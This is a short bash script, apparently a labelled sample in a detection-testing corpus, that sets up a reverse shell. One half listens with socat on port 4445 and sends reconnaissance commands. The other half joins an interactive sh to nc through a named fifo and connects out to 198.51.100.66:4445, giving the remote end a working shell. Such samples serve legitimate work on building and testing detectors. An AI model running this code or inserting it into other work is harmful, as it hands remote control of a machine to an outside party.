#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=reverse-shell half=report tool=nc,dash far=out ready=out:4445 seconds=20
# A fifo joins sh and nc: the shell has no socket of its own.
# shellcheck disable=SC2094
if [ "$1" = out ]; then
	(sleep 2; for line in id "ls /" "cat /etc/hostname" exit; do echo "$line"; sleep 3; done) | timeout 30 socat -t 2 - TCP-LISTEN:4445,reuseaddr
	exit 0
fi
cd "$LAB" || exit 1
rm -f fifo && mkfifo fifo
sh -i <fifo 2>&1 | nc -N 198.51.100.66 4445 >fifo
true
